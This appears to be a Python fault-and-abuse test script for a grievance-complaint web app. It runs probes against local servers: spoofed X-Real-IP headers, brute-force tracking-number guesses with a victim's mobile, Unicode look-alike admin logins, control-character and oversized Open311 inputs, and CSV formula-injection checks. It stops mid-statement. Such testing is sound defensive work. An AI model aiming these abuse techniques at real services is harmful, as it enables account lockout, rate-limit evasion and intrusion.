"""`make bench-faults` / `python bench/faults.py [probe ...]`: the fault and abuse suite of
issue 16 (item 7), against gunicorn with production settings, PostgreSQL and Redis.

Not part of `make test`. Each probe reproduces one finding of the issue and prints one or
more rows of a table: fault or attack | requests | accepted | stored | lost | 5xx |
expected outcome | result.

- requests: HTTP requests the probe sent; accepted: answers 2xx or 3xx;
- stored: complaints of the probe in the database (by their one-time form tokens, or by
  the Open311 ids); lost: complaints acknowledged (302 to a receipt, or an Open311 id) that
  are not in the database;
- 5xx: every answer 500 or above; only the database-down probe expects any (503).

Probes (run a subset by name: `bench/faults.py redis-down lockout`):
  redis-down   REDIS_URL at a closed port: browse, file with an attachment, track; /healthz
  uploads      7000 x 7000 PNGs, and /healthz while 4 clients send the heaviest accepted
               uploads (bench/uploads.py's phases, run here for 10 s each)
  admin-login  5 wrong passwords, then the right one as a look-alike user name
  lockout      a stranger guessing tracking numbers and filing with the victim's mobile
  spoofed-ip   a new X-Real-IP per request from a client that is not the trusted proxy
  open311      dates out of range, control characters, oversized body, per-key POST limit
  resend       a form sent again after the per-address and per-mobile limits
  csv          a service named =HYPERLINK(...) in the public CSV and the monthly report
  pdf          a PDF with JavaScript, fetched back through the admin download
  idle         the case page after 30 idle minutes (the session aged in the database)
  db-down      PostgreSQL connections killed and the database unreachable mid-run

Servers (each its own port; all on the one database `charter_bench_faults`, Redis databases
12 and 13): A 8861, the deployment of docs/deploy.md (X-Real-IP believed from 127.0.0.1);
B 8862, Redis at a closed port (8869); C 8863, X-Real-IP configured but the request not
from the trusted proxy; D 8864, reaching PostgreSQL through a TCP relay on 8865 that this
script cuts, with the rate limits scaled up as in bench/run.py and bench/uploads.py (every
client there is 127.0.0.1). The database is dropped and made again at each run. About 2
minutes in all; exit status 1 when a row fails. `--write` puts the table in bench/RESULTS.md
(replacing the section "Faults and abuse").
"""

import collections
import contextlib
import csv
import datetime
import http.client
import http.cookies
import io
import json
import os
import platform
import random
import re
import secrets
import shutil
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
import urllib.parse
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
TMP = Path(tempfile.mkdtemp(prefix="bench-faults-"))

# Before bench/run.py reads the environment (on import): this suite's database, Redis
# database, first port, and directories for attachments and SMS of its own.
os.environ["BENCH_DATABASE"] = "charter_bench_faults"
os.environ["BENCH_PORT"] = "8861"
os.environ["REDIS_URL"] = "redis://127.0.0.1:6379/12"
os.environ.setdefault("BENCH_UPLOAD_SECONDS", "10")
os.environ["PRIVATE_MEDIA_ROOT"] = str(TMP / "private_media")
os.environ["SMS_FILE_PATH"] = str(TMP / "sms")
sys.path.insert(0, str(HERE))

_before = set(Path(tempfile.gettempdir()).glob("bench-uploads-*"))
import run  # noqa: E402
import uploads  # noqa: E402

# uploads.py makes a directory for its default PRIVATE_MEDIA_ROOT on import, unused here.
for _stray in set(Path(tempfile.gettempdir()).glob("bench-uploads-*")) - _before:
    with contextlib.suppress(OSError):
        _stray.rmdir()  # only if empty

# bench/run.py scales the rate limits for load tests; the abuse probes need the real ones.
os.environ["GRS_RATE_LIMIT_SCALE"] = "1"

PORTS = {"A": 8861, "B": 8862, "C": 8863, "D": 8864}
RELAY_PORT = 8865
CLOSED_PORT = 8869  # nothing listens here: Redis "down" for server B
REDIS_A = "redis://127.0.0.1:6379/12"
REDIS_CD = "redis://127.0.0.1:6379/13"
APPLICATION_NAME = "charter-bench-faults-d"

BASE_ENV = {
    **run.ENV,
    "GRS_RATE_LIMIT_SCALE": "1",
    "PRIVATE_MEDIA_ROOT": os.environ["PRIVATE_MEDIA_ROOT"],
    "SMS_FILE_PATH": os.environ["SMS_FILE_PATH"],
    "LOG_LEVEL": "WARNING",
}
SERVERS = {
    # docs/deploy.md: nginx on the same machine, its X-Real-IP believed from 127.0.0.1.
    "A": {
        "REDIS_URL": REDIS_A,
        "GRS_CLIENT_IP_HEADER": "HTTP_X_REAL_IP",
        "GRS_TRUSTED_PROXIES": "127.0.0.1/32",
    },
    "B": {
        "REDIS_URL": f"redis://127.0.0.1:{CLOSED_PORT}/0",
        "GRS_CLIENT_IP_HEADER": "HTTP_X_REAL_IP",
        "GRS_TRUSTED_PROXIES": "127.0.0.1/32",
    },
    # The proxy is elsewhere (192.0.2.10); this client reaches gunicorn directly.
    "C": {
        "REDIS_URL": REDIS_CD,
        "GRS_CLIENT_IP_HEADER": "HTTP_X_REAL_IP",
        "GRS_TRUSTED_PROXIES": "192.0.2.10/32",
    },
    "D": {
        "REDIS_URL": REDIS_CD,
        "DATABASE_URL": f"postgres://postgres@127.0.0.1:{RELAY_PORT}/{run.DATABASE}"
        f"?application_name={APPLICATION_NAME}",
        "GRS_RATE_LIMIT_SCALE": "1000000",
    },
}

LOGGED_500: dict[str, int] = {}  # server -> requests its log shows as 500
ADMIN_PASSWORD = "Kaunia-GRO-" + secrets.token_urlsafe(12)
SUPERUSER = "bench_faults_admin"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TRACKING_ALPHABET = "23456789ABCDEFGHJKMNPQRSTUVWXYZ"


# --- Talking to a server as a browser would ---


@dataclass
class Answer:
    status: int  # 0: no answer (connection refused, reset, timed out)
    headers: dict
    body: bytes
    seconds: float
    method: str = ""
    path: str = ""
    started: float = 0.0  # time.monotonic() when sent

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    @property
    def location(self) -> str:
        return self.headers.get("location", "")


@dataclass
class Tally:
    """Every answer a probe got, and the complaints it filed (by form token)."""

    answers: list = field(default_factory=list)
    tokens: dict = field(default_factory=dict)  # submission token -> answer status
    receipts: dict = field(default_factory=dict)  # submission token -> tracking number
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, answer: Answer) -> Answer:
        with self.lock:
            self.answers.append(answer)
        return answer

    def filed(self, token: str, answer: Answer) -> None:
        if not token:
            return
        with self.lock:
            self.tokens[token] = answer.status
            number = receipt_number(answer)
            if number:
                self.receipts[token] = number

    @property
    def requests(self) -> int:
        return len(self.answers)

    @property
    def accepted(self) -> int:
        return sum(1 for a in self.answers if 200 <= a.status < 400)

    @property
    def server_errors(self) -> int:
        return sum(1 for a in self.answers if a.status >= 500)

    @property
    def no_answer(self) -> int:
        return sum(1 for a in self.answers if a.status == 0)

    def statuses(self) -> collections.Counter:
        return collections.Counter(a.status for a in self.answers)

    def stored_and_lost(self) -> tuple[int, int]:
        from grievances.models import Grievance

        stored = set(
            Grievance.objects.filter(submission_token__in=list(self.tokens)).values_list(
                "submission_token", flat=True
            )
        )
        lost = [token for token in self.receipts if token not in stored]
        return len(stored), len(lost)


def receipt_number(answer: Answer) -> str | None:
    match = re.search(r"/complaints/receipt/([^/]+)/$", answer.location)
    return match.group(1) if answer.status == 302 and match else None


def counts(counter: collections.Counter) -> str:
    return ", ".join(f"{n} × {status or 'no answer'}" for status, n in sorted(counter.items()))


class Browser:
    """One visitor: its cookies (sent back by hand: production marks them Secure, and this
    is plain http on loopback), and the address the proxy would put in X-Real-IP."""

    def __init__(self, port: int, tally: Tally, *, address: str | None = None, lang="bn"):
        self.port, self.tally, self.address, self.lang = port, tally, address, lang
        self.cookies: dict[str, str] = {}

    def request(self, method, path, body=None, headers=None, timeout=120) -> Answer:
        headers = {"Accept-Language": "en" if self.lang == "en" else "bn", **(headers or {})}
        if self.address:
            headers["X-Real-IP"] = self.address
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout)
        started = time.monotonic()
        try:
            connection.request(method, path, body=body, headers=headers)
            response = connection.getresponse()
            data = response.read()
            answer = Answer(
                response.status,
                {k.lower(): v for k, v in response.getheaders()},
                data,
                time.monotonic() - started,
                method,
                path,
                started,
            )
            for line in response.msg.get_all("Set-Cookie") or []:
                cookie = http.cookies.SimpleCookie()
                cookie.load(line)
                for name, morsel in cookie.items():
                    if morsel.value:
                        self.cookies[name] = morsel.value
                    else:
                        self.cookies.pop(name, None)
        except OSError:
            answer = Answer(0, {}, b"", time.monotonic() - started, method, path, started)
        finally:
            connection.close()
        return self.tally.add(answer)

    def get(self, path, **kwargs) -> Answer:
        return self.request("GET", path, **kwargs)

    def post(self, path, fields: dict, files=(), headers=None) -> Answer:
        if files:
            body, content_type = uploads.multipart(fields, list(files))
        else:
            body, content_type = (
                urllib.parse.urlencode(fields).encode(),
                ("application/x-www-form-urlencoded"),
            )
        return self.request("POST", path, body, {"Content-Type": content_type, **(headers or {})})

    def csrf(self, page: Answer) -> str:
        match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        return match.group(1) if match else ""

    def form(self, path: str) -> tuple[Answer, dict]:
        """The page and the hidden fields a browser would send back with it."""
        page = self.get(path)
        hidden = {"csrfmiddlewaretoken": self.csrf(page)}
        token = re.search(r'name="submission_token" value="([^"]+)"', page.text)
        if token:
            hidden["submission_token"] = token.group(1)
        return page, hidden

    def file(self, fields: dict, files=()) -> tuple[Answer, dict]:
        """Fill in the complaint form and send it; the posted fields, for sending again.
        A form that did not come (a 503 page) is not sent: the page's answer instead."""
        page, hidden = self.form(f"/{self.lang}/complaints/new/")
        posted = {**fields, **hidden}
        if page.status != 200:
            return page, posted
        answer = self.post(f"/{self.lang}/complaints/new/", posted, files)
        self.tally.filed(posted.get("submission_token", ""), answer)
        return answer, posted

    def track(self, tracking_number: str, mobile: str, hidden: dict | None = None) -> Answer:
        if hidden is None:
            page, hidden = self.form(f"/{self.lang}/complaints/track/")
            if page.status != 200:
                return page
        return self.post(
            f"/{self.lang}/complaints/track/",
            {**hidden, "tracking_number": tracking_number, "mobile": mobile},
        )


def mobile() -> str:
    return "017" + "".join(random.choices("0123456789", k=8))


def wrong_tracking_number() -> str:
    return f"GRS-{datetime.date.today().year}-" + "".join(random.choices(TRACKING_ALPHABET, k=6))


def small_png() -> bytes:
    return uploads.plain((800, 600))


# --- Servers ---


@contextlib.contextmanager
def _output_to(path: Path):
    """gunicorn inherits stdout and stderr: its JSON logs go to a file, not the table."""
    sys.stdout.flush()
    sys.stderr.flush()
    saved = os.dup(1), os.dup(2)
    with open(path, "ab") as log:
        os.dup2(log.fileno(), 1)
        os.dup2(log.fileno(), 2)
        try:
            yield
        finally:
            os.dup2(saved[0], 1)
            os.dup2(saved[1], 2)
            os.close(saved[0])
            os.close(saved[1])


@dataclass
class Server:
    name: str
    port: int
    process: object
    log: Path


@contextlib.contextmanager
def server(name: str):
    """bench/run.py's start_server and stop_server, with this server's port and settings."""
    saved = run.PORT, run.BASE, run.ENV
    port = PORTS[name]
    run.PORT, run.BASE = port, f"http://127.0.0.1:{port}"
    run.ENV = {**BASE_ENV, **SERVERS[name]}
    log = TMP / f"server-{name}.log"
    process = None
    try:
        try:
            with _output_to(log):
                process = run.start_server()
        except SystemExit:
            print(log.read_text()[-3000:], file=sys.stderr)
            raise
        yield Server(name, port, process, log)
    finally:
        if process is not None:
            run.stop_server(process)
        run.PORT, run.BASE, run.ENV = saved


def logged_server_errors(log: Path) -> int:
    """Requests that Django logged as 500 (an unhandled exception) in a server's log."""
    return log.read_text(errors="replace").count("Internal Server Error") if log.exists() else 0


def logged_failures(log: Path) -> collections.Counter:
    """Answers Django logged as errors other than the 503 page, by status text and the
    exception that caused them (the last line of the traceback naming an exception)."""
    found = collections.Counter()
    if not log.exists():
        return found
    for line in log.read_text(errors="replace").splitlines():
        try:
            record = json.loads(line)
        except ValueError:
            continue
        message = str(record.get("message", ""))
        if record.get("logger") != "django.request" or message.startswith("Service Unavailable"):
            continue
        if not record.get("exception"):
            continue
        causes = re.findall(
            r"^([a-z_][\w.]*\.\w+(?:Error|Exception|Interrupted)):", record["exception"], re.M
        )
        status = "500" if message.startswith("Internal Server Error") else message.split(":")[0]
        if "session was deleted" in message:
            status = "400"
        chain = list(dict.fromkeys(causes))
        text = f"{status} from {chain[0] if chain else '?'}"
        if len(chain) > 1:
            text += f" → {chain[-1].rsplit('.', 1)[-1]}"
        found[text] += 1
    return found


def flush_redis(url: str) -> None:
    import redis

    redis.Redis.from_url(url).flushdb()


# --- The table ---


@dataclass
class Row:
    name: str
    requests: int
    accepted: int
    stored: int | str
    lost: int | str
    server_errors: int | str
    expected: str
    passed: bool | None  # None: not measured here
    observed: str

    @property
    def result(self) -> str:
        verdict = {True: "PASS", False: "FAIL", None: "—"}[self.passed]
        return f"**{verdict}**: {self.observed}" if self.observed else f"**{verdict}**"


def row(name, tally: Tally | None, *, expected, passed, observed, stored=None, lost=None):
    if tally is not None and stored is None and tally.tokens:
        stored, lost = tally.stored_and_lost()
    return Row(
        name,
        tally.requests if tally else 0,
        tally.accepted if tally else 0,
        "—" if stored is None else stored,
        "—" if lost is None else lost,
        tally.server_errors if tally else 0,
        expected,
        passed,
        observed,
    )


# --- Probes ---


class Context:
    """What the probes share: the complaint form's fields, the service, the office."""

    def __init__(self):
        from services.charter import current_charter

        charter = current_charter()
        self.office = charter.office
        self.fields = uploads.complaint_fields()
        self.service = charter.office.services.get(pk=self.fields["service"])
        self.service_path = f"/bn/services/{self.service.category}/{self.service.serial}/"

    def complaint(self, mobile_number: str, subject: str) -> dict:
        return {**self.fields, "mobile": mobile_number, "subject": subject}


def probe_redis_down(ctx: Context) -> list[Row]:
    """Issue 16 §1: with Redis gone every page, the form and tracking answered 500."""
    probe = socket.socket()
    if probe.connect_ex(("127.0.0.1", CLOSED_PORT)) == 0:
        raise SystemExit(f"Something listens on {CLOSED_PORT}: it cannot stand for a dead Redis.")
    probe.close()
    tally = Tally()
    pages = [
        "/",
        "/bn/",
        "/en/",
        "/bn/services/",
        ctx.service_path,
        "/bn/expectations/",
        "/bn/grs/",
        "/bn/charter/print/",
        "/bn/services/search/?q=" + urllib.parse.quote("জন্ম"),
        f"/bn/services/{ctx.service.category}.csv",
        "/charter.json",
        "/open311/v2/services.json",
        "/open311/v2/requests.xml",
    ]
    tracked = opened = 0
    with_files = []
    submit_seconds = []
    with server("B") as srv:
        for citizen in range(6):
            where = f"203.0.113.{10 + citizen}"
            browser = Browser(srv.port, tally, address=where)
            for path in pages:
                browser.get(path)
            number = mobile()
            answer, posted = browser.file(
                ctx.complaint(number, f"Redis down {citizen}"),
                [(f"photo{citizen}.png", small_png())],
            )
            submit_seconds.append(answer.seconds)
            with_files.append(posted["submission_token"])
            tracking_number = receipt_number(answer)
            if tracking_number:
                browser.get(answer.location)  # the receipt
                other = Browser(srv.port, tally, address=where)  # the citizen's phone, later
                found = other.track(tracking_number, number)
                if found.status == 302:
                    tracked += 1
                    opened += other.get(found.location).status == 200
        health = Browser(srv.port, tally).get("/healthz")
        time.sleep(0.5)
        logged = LOGGED_500["B (Redis down)"] = logged_server_errors(srv.log)
    from grievances.models import Attachment

    stored, lost = tally.stored_and_lost()
    attachments = Attachment.objects.filter(grievance__submission_token__in=with_files)
    files_present = sum(1 for a in attachments if a.file.storage.exists(a.file.name))
    try:
        body = json.loads(health.body)
    except ValueError:
        body = {}
    healthy = (
        health.status == 200 and body.get("status") == "degraded" and body.get("cache") == "down"
    )
    filed = len(tally.tokens)
    passed = (
        tally.server_errors == 0
        and tally.no_answer == 0
        and lost == 0
        and stored == filed
        and files_present == filed
        and tracked == opened == filed
        and healthy
    )
    return [
        row(
            "Redis down (REDIS_URL at a closed port): 6 citizens browse 13 pages, file with a "
            "PNG, open the receipt, track from a new browser",
            tally,
            expected="pages 200/302, every complaint stored with its file, tracking works; "
            "/healthz 200 degraded; 0 lost, 0 5xx",
            passed=passed,
            observed=f"{counts(tally.statuses())}; {stored}/{filed} stored, {files_present} "
            f"files on disk; {tracked} tracked, {opened} case pages; complaint POST median "
            f"{statistics.median(submit_seconds):.2f} s; /healthz {health.status} "
            f"{json.dumps(body)}; {logged} logged 500s",
        )
    ]


def probe_uploads(ctx: Context) -> list[Row]:
    """Issue 16 §2, with bench/uploads.py's phases: 4 clients posting complaints with files
    in a loop for BENCH_UPLOAD_SECONDS while a fifth asks /healthz every 50 ms."""
    from django.db import connections

    from grievances.models import Grievance

    fields = uploads.complaint_fields()
    worst = uploads.drawing((4000, 4000))
    issue = uploads.plain((7000, 7000))
    phases = [
        ("none", "no uploads (baseline)", []),
        ("issue", "3 × 7000 × 7000 PNG", [(f"scan{n}.png", issue) for n in range(3)]),
        ("worst", "3 × 4000 × 4000 PNG with alpha", [(f"d{n}.png", worst) for n in range(3)]),
    ]
    results = {}
    connections.close_all()  # the clients are forked
    with relay(), server("D") as srv:
        for key, label, files in phases:
            before = Grievance.objects.filter(subject="Bench upload").count()
            connections.close_all()
            result = uploads.phase(srv.process, label, fields, files)
            result["stored"] = Grievance.objects.filter(subject="Bench upload").count() - before
            result["by_status"] = collections.Counter(
                {int(s): int(n) for n, s in re.findall(r"(\d+) × (\d+)", result["statuses"])}
            )
            results[key] = result
        logged = LOGGED_500["D (uploads)"] = logged_server_errors(srv.log)
    rows = []
    base = results["none"]
    for key, name, expected in [
        (
            "issue",
            f"Heavy uploads: 4 clients × {uploads.SECONDS:.0f} s sending 3 × 7000 × 7000 PNG "
            f"({len(issue) // 1024} KB each)",
            "refused from the header (200, form with a message) in well under 1 s; 0 stored; 0 5xx",
        ),
        (
            "worst",
            f"Heavy uploads: 4 clients × {uploads.SECONDS:.0f} s sending the worst accepted "
            f"upload, 3 × 4000 × 4000 PNG ({len(worst) // 1024} KB each); /healthz every 50 ms",
            "/healthz p99 under 200 ms (issue 16 §2); every 302 stored; 0 5xx",
        ),
    ]:
        result = results[key]
        by_status = result["by_status"]
        receipts = by_status.get(302, 0)
        lost = max(0, receipts - result["stored"])
        server_errors = sum(n for s, n in by_status.items() if s >= 500)
        if key == "issue":
            passed = (
                receipts == 0
                and result["stored"] == 0
                and server_errors == 0
                and (result["upload_p50"] or 0) < 1.0
            )
        else:
            passed = lost == 0 and server_errors == 0 and result["p99"] < 200
        rows.append(
            Row(
                name,
                result["uploads"] + result["healthz"],
                sum(n for s, n in by_status.items() if 200 <= s < 400)
                + result["healthz"]
                - result["failures"],
                result["stored"],
                lost,
                server_errors,
                expected,
                passed,
                f"uploads {result['statuses']}, answer p50 {result['upload_p50']:.2f} s; "
                f"/healthz ({result['healthz']} asked) p50 {result['p50']:.0f} ms, p99 "
                f"{result['p99']:.0f} ms, max {result['max']:.0f} ms (no uploads: p50 "
                f"{base['p50']:.0f}, p99 {base['p99']:.0f} ms); worker peak "
                f"{result['memory']:.0f} MB" + (f"; {logged} logged 500s" if logged else ""),
            )
        )
    return rows


def probe_admin_login(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §3: after 5 failures for gro_kaunia, ｇｒｏ_kaunia logged in."""
    from django.contrib.auth import get_user_model

    user_model = get_user_model()
    user_model.objects.filter(username="gro_kaunia").delete()
    user_model.objects.create_user("gro_kaunia", password=ADMIN_PASSWORD, is_staff=True)
    tally = Tally()

    def login(username, password, where):
        browser = Browser(srv.port, tally, address=where, lang="en")
        _page, hidden = browser.form("/admin/login/?next=/admin/")
        answer = browser.post(
            "/admin/login/?next=/admin/",
            {**hidden, "username": username, "password": password, "next": "/admin/"},
        )
        return answer

    control = login("gro_kaunia", ADMIN_PASSWORD, "198.51.100.200")
    wrong = [login("gro_kaunia", f"guess-{n}", f"198.51.100.{201 + n}") for n in range(5)]
    spellings = ["ｇｒｏ_kaunia", "GRO_KAUNIA", "gro_kaunia"]
    tries = {s: login(s, ADMIN_PASSWORD, f"198.51.100.{210 + n}") for n, s in enumerate(spellings)}
    throttled = {s: "Too many failed logins" in a.text for s, a in tries.items()}
    logged_in = [s for s, a in tries.items() if a.status == 302]
    passed = (
        control.status == 302
        and all(a.status == 200 for a in wrong)
        and not logged_in
        and all(throttled.values())
        and tally.server_errors == 0
    )
    return [
        row(
            "Look-alike admin login: 5 wrong passwords for gro_kaunia (5 addresses), then the "
            "right password as ｇｒｏ_kaunia, GRO_KAUNIA and gro_kaunia",
            tally,
            expected="the 3 tries refused with the throttle message (no 302); "
            "control login before the attack: 302",
            passed=passed,
            observed=f"control {control.status}; wrong "
            f"{counts(collections.Counter(a.status for a in wrong))}; "
            + "; ".join(
                f"{s}: {a.status}{' throttled' if throttled[s] else ''}" for s, a in tries.items()
            ),
        )
    ]


def probe_lockout(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §4: a stranger who knows a citizen's mobile locked them out."""
    from grievances.models import Grievance, OutboxMessage

    rows = []
    for spread in (True, False):
        tally = Tally()
        victim_mobile = mobile()
        victim = Browser(srv.port, tally, address="203.0.113.50")
        filed, _posted = victim.file(ctx.complaint(victim_mobile, "Lock-out victim"))
        tracking_number = receipt_number(filed)
        stranger = Browser(srv.port, tally)
        _page, hidden = stranger.form("/bn/complaints/track/")
        guesses = collections.Counter()
        attacker = "198.51.100.99"
        for n in range(40):
            stranger.address = f"198.51.100.{n + 1}" if spread else attacker
            stranger.cookies.pop("sessionid", None)  # a guesser keeps no session
            guesses[stranger.track(wrong_tracking_number(), victim_mobile, hidden).status] += 1
        phone = Browser(srv.port, tally, address="203.0.113.51")  # the victim, a new browser
        found = phone.track(tracking_number or "", victim_mobile)
        case = phone.get(found.location) if found.status == 302 else None
        again = victim.track(tracking_number or "", victim_mobile)
        expected_guesses = {200: 40} if spread else {200: 30, 429: 10}
        passed = (
            tracking_number is not None
            and dict(guesses) == expected_guesses
            and found.status == 302
            and case is not None
            and case.status == 200
            and again.status == 302
            and tally.server_errors == 0
        )
        where = "40 addresses (X-Real-IP through the trusted proxy)" if spread else "one address"
        rows.append(
            row(
                f"Lock-out by a stranger: 40 wrong tracking guesses with the victim's mobile "
                f"from {where}, then the victim tracks from a new browser and address",
                tally,
                expected=(
                    "guesses 200 (no match); the victim 302 to the case, case page 200"
                    if spread
                    else "the guesser refused after 30 (429); the victim 302, case page 200"
                ),
                passed=passed,
                observed=f"guesses {counts(guesses)}; victim (new browser) {found.status}, case "
                f"page {case.status if case else '—'}; victim (filing browser) {again.status}",
            )
        )

    tally = Tally()
    victim_mobile = mobile()
    stranger = Browser(srv.port, tally, address="198.51.100.150")
    for n in range(6):
        stranger.file(ctx.complaint(victim_mobile, f"Stranger {n}"))
    victim = Browser(srv.port, tally, address="203.0.113.60")
    answer, posted = victim.file(ctx.complaint(victim_mobile, "The victim's own complaint"))
    receipt = victim.get(answer.location) if answer.status == 302 else None
    own = Grievance.objects.filter(submission_token=posted["submission_token"]).first()
    sms = OutboxMessage.objects.filter(channel="sms", recipient=victim_mobile).count()
    flagged = Grievance.objects.filter(mobile=victim_mobile, many_from_same_mobile=True).count()
    limit = run_settings("GRS_RATE_LIMITS")["receipt_sms_mobile"][0]
    passed = (
        answer.status == 302
        and receipt is not None
        and receipt.status == 200
        and own is not None
        and own.many_from_same_mobile
        and sms <= limit
        and tally.server_errors == 0
    )
    rows.append(
        row(
            "Lock-out by a stranger: 6 complaints filed with the victim's mobile, then the "
            "victim files",
            tally,
            expected=f"the victim's complaint 302, stored and flagged for the GRO; at most "
            f"{limit} receipt SMS to the number",
            passed=passed,
            observed=f"complaints {counts(collections.Counter(tally.tokens.values()))}; "
            f"victim {answer.status}, receipt page {receipt.status if receipt else '—'}, "
            f"flagged {bool(own and own.many_from_same_mobile)} ({flagged} of 7 flagged); "
            f"{sms} SMS queued to the number",
        )
    )
    return rows


def run_settings(name: str):
    from django.conf import settings

    return getattr(settings, name)


def probe_spoofed_ip(ctx: Context) -> list[Row]:
    """Issue 16 §5: a different X-Real-IP per request defeated every per-address limit."""
    flush_redis(REDIS_CD)
    rows = []
    with server("C") as srv:
        tally = Tally()
        guesser = Browser(srv.port, tally)
        _page, hidden = guesser.form("/bn/complaints/track/")
        guesses = collections.Counter()
        for _n in range(40):
            guesser.address = f"10.{random.randint(0, 255)}.{random.randint(0, 255)}.7"
            guesser.cookies.pop("sessionid", None)
            guesses[guesser.track(wrong_tracking_number(), mobile(), hidden).status] += 1
        rows.append(
            row(
                "Spoofed client address, sender not the trusted proxy: 40 wrong tracking "
                "guesses, a new X-Real-IP each",
                tally,
                expected="X-Real-IP ignored: 30 × 200, then 429 (per-address limit 30/h)",
                passed=dict(guesses) == {200: 30, 429: 10} and tally.server_errors == 0,
                observed=counts(guesses),
            )
        )
        tally = Tally()
        for n in range(12):
            filer = Browser(srv.port, tally, address=f"10.9.{n}.{random.randint(1, 254)}")
            filer.file(ctx.complaint(mobile(), f"Spoofed {n}"))
        statuses = collections.Counter(tally.tokens.values())
        stored, lost = tally.stored_and_lost()
        rows.append(
            row(
                "Spoofed client address, sender not the trusted proxy: 12 complaints, a new "
                "X-Real-IP each",
                tally,
                expected="10 × 302 then 429 (per-address limit 10/h); 10 stored",
                passed=dict(statuses) == {302: 10, 429: 2}
                and stored == 10
                and lost == 0
                and tally.server_errors == 0,
                observed=f"complaints {counts(statuses)}; {stored} stored",
                stored=stored,
                lost=lost,
            )
        )
        time.sleep(0.5)
        LOGGED_500["C (spoofed address)"] = logged_server_errors(srv.log)
    return rows


def _open311_errors(answer: Answer, fmt: str) -> list[tuple[int, str]] | None:
    """The spec's error list ([{code, description}] or <errors><error>…), or None."""
    try:
        if fmt == "json":
            data = json.loads(answer.body)
            return [(int(e["code"]), str(e["description"])) for e in data]
        root = ET.fromstring(answer.body)
        if root.tag != "errors":
            return None
        return [(int(e.findtext("code")), e.findtext("description") or "") for e in root]
    except (ValueError, KeyError, TypeError, ET.ParseError):
        return None


def _spec_error(answer: Answer, fmt: str, status: int) -> bool:
    errors = _open311_errors(answer, fmt)
    return (
        answer.status == status
        and bool(errors)
        and all(code == status and text for code, text in errors)
        and answer.headers.get("content-type", "").startswith(
            "application/json" if fmt == "json" else "text/xml"
        )
    )


def open311_complaint(ctx: Context, api_key: str, **extra) -> dict:
    return {
        "api_key": api_key,
        "service_code": f"{ctx.service.category}-{ctx.service.serial}",
        "description": "Open311 বেঞ্চ অভিযোগ",
        "attribute[complaint_type]": "citizen",
        "attribute[subject]": "Open311 bench",
        "attribute[name]": "বেঞ্চ নাগরিক",
        "attribute[id_type]": "nid",
        "attribute[id_number]": "1234567890",
        "attribute[permanent_address]": "কাউনিয়া, রংপুর",
        "attribute[mobile]": mobile(),
        "attribute[office_has_decided]": "true",
        **extra,
    }


def probe_open311(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §6: Open311 overflow, control characters, HTML errors, no per-key limit."""
    from grievances.models import Grievance
    from open311 import keys

    rows = []
    api = Browser(srv.port, Tally(), address="192.0.2.77")

    tally = api.tally = Tally()
    checks = [
        ("json", "start_date=9999-12-31T00:00:00Z"),
        ("json", "end_date=0001-01-01T00:00:00Z"),
        ("xml", "start_date=9999-12-31T00:00:00Z"),
        ("xml", "end_date=0001-01-01T00:00:00Z"),
    ]
    answers = [(fmt, api.get(f"/open311/v2/requests.{fmt}?{query}")) for fmt, query in checks]
    good = [_spec_error(a, fmt, 400) for fmt, a in answers]
    rows.append(
        row(
            "Open311 start_date=9999-12-31T00:00:00Z, end_date=0001-01-01T00:00:00Z (JSON and XML)",
            tally,
            expected="400 in the spec's error list, in the format asked for",
            passed=all(good) and tally.server_errors == 0,
            observed=f"{counts(tally.statuses())}; {sum(good)}/{len(good)} in the spec's shape",
        )
    )

    tally = api.tally = Tally()
    _key, raw_key = keys.issue(name="bench faults: control characters")
    control = "citizen-1\x00\x01\x1b[31m\x7f"
    answers = [
        ("xml", api.get("/open311/v2/requests.xml?service_code=" + urllib.parse.quote(control))),
        ("json", api.get("/open311/v2/requests.json?service_code=" + urllib.parse.quote(control))),
        (
            "xml",
            api.post(
                "/open311/v2/requests.xml",
                open311_complaint(ctx, raw_key, service_code=control),
            ),
        ),
        ("xml", api.get("/open311/v2/services.xml?jurisdiction_id=" + urllib.parse.quote(control))),
    ]
    good = [_spec_error(a, fmt, 400) for fmt, a in answers]
    rows.append(
        row(
            "Open311 control characters (NUL, ESC, DEL) in service_code (GET and POST) and "
            "jurisdiction_id",
            tally,
            expected="400; the XML parses, errors in the spec's shape",
            passed=all(good) and tally.server_errors == 0,
            observed=f"{counts(tally.statuses())}; {sum(good)}/{len(good)} parse as the "
            "spec's error list",
        )
    )

    tally = api.tally = Tally()
    limit = run_settings("DATA_UPLOAD_MAX_MEMORY_SIZE")
    big = open311_complaint(ctx, raw_key, description="x" * (limit + 500_000))
    answers = [(fmt, api.post(f"/open311/v2/requests.{fmt}", big)) for fmt in ("json", "xml")]
    good = [_spec_error(a, fmt, 413) for fmt, a in answers]
    rows.append(
        row(
            f"Open311 POST with a {(limit + 500_000) / 1e6:.1f} MB body (limit "
            f"{limit / 1e6:.1f} MB)",
            tally,
            expected="413 in the spec's shape (JSON and XML), nothing stored",
            passed=all(good) and tally.server_errors == 0,
            observed=f"{counts(tally.statuses())}; {sum(good)}/{len(good)} in the spec's shape",
        )
    )

    tally = api.tally = Tally()
    _key, raw_key = keys.issue(name="bench faults: leaked key")
    per_key = run_settings("GRS_RATE_LIMITS")["open311_key"][0]
    ids, statuses = [], collections.Counter()
    for n in range(per_key):
        if n < 3:  # a few real complaints, the rest refused for a missing service_code
            answer = api.post("/open311/v2/requests.json", open311_complaint(ctx, raw_key))
            if answer.status == 200:
                ids.append(int(json.loads(answer.body)[0]["service_request_id"]))
        else:
            answer = api.post("/open311/v2/requests.json", {"api_key": raw_key})
        statuses[answer.status] += 1
    before = Grievance.objects.count()
    over = api.post("/open311/v2/requests.json", open311_complaint(ctx, raw_key))
    over_xml = api.post("/open311/v2/requests.xml", open311_complaint(ctx, raw_key))
    stored_after = Grievance.objects.count() - before
    stored = Grievance.objects.filter(pk__in=ids).count()
    rows.append(
        row(
            f"Open311 per-key POST limit: {per_key} POSTs with one key (3 complaints), then 2 more "
            "complaints",
            tally,
